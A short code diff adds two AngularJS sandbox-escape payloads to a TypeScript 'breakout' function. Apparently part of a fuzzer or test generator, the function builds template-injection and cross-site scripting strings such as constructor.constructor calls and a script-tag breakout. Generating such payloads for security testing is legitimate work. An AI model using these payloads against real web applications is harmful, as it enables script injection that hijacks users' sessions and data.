@@ -376,6 +376,8 @@ function breakout(r: RandomSource): string {
     `{{constructor.constructor('${js}')()}}`,
     `{{$on.constructor('${js}')()}}`,
     `{{[].pop.constructor('${js}')()}}`,
+    `{{x='${r.name()}'.constructor.prototype;x.charAt=[].join;$eval('x=${js}')}}`,
+    `${r.pick(["'a'", "toString()", "[]", "x"])}.constructor.prototype.${r.pick(["charAt", "concat", "toString", r.name()])}=${r.pick(["[].join", "''.trim", "''.valueOf"])}`,
     `*/${js}/*`,
     `%0a${js}`,
     `</title><script>${js}</script>`,
